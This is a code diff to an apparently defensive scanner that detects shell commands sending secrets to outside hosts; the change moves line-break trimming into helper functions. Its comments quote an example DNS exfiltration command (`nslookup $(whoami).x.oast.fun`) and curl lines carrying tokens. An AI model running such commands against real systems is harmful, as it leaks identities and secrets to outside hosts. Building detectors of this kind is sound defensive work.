@@ -6,6 +6,7 @@
  * exfiltration: `nslookup $(whoami).x.oast.fun`). The variable is read in the syntaxes of shells, CI expressions,
  * PowerShell, cmd, Groovy, Node and Python. A secret sent to its vendor's host or to a company's named host is not read.
  */
+import { afterLastBreak, beforeFirstBreak } from './line-bounds.js';
 import { CATCHER, isPublicAddress, namesSecret, sentElsewhere, TUNNEL } from './carried.js';
 import type { Hit } from './codes.js';
 import type { Text } from './find.js';
@@ -90,15 +91,10 @@ export function commandAround(text: string, start: number, end: number): string 
   let before = text.slice(Math.max(0, start - 400), start);
   if (before.includes('\\')) before = before.replace(CONTINUATION, '  ');
   // After a JSON string's `\n`, both its code units: the line starts at its command (`\ncurl …`, not `ncurl …`).
-  const rawBreak = before.lastIndexOf('\n');
-  const escapedBreak = before.lastIndexOf('\\n');
-  if (rawBreak >= 0 || escapedBreak >= 0) before = before.slice(rawBreak > escapedBreak ? rawBreak + 1 : escapedBreak + 2);
+  before = afterLastBreak(before);
   let after = text.slice(end, end + 400);
   if (after.includes('\\')) after = after.replace(CONTINUATION, '  ');
-  const n = after.indexOf('\n');
-  const e = after.indexOf('\\n');
-  const cutAfter = n < 0 ? e : e < 0 ? n : Math.min(n, e);
-  if (cutAfter >= 0) after = after.slice(0, cutAfter);
+  after = beforeFirstBreak(after);
   // Another command on the same line (`gh auth login --with-token <<< "$GITHUB_TOKEN" && curl …`) sends nothing of this one's.
   // So does the next item of a JSON list or record written on one line (`"cmd":"curl …","env":…`).
   // A `;` inside a quoted value (`-H "Cookie: a=1; s=$SESSION_TOKEN"`) separates nothing.
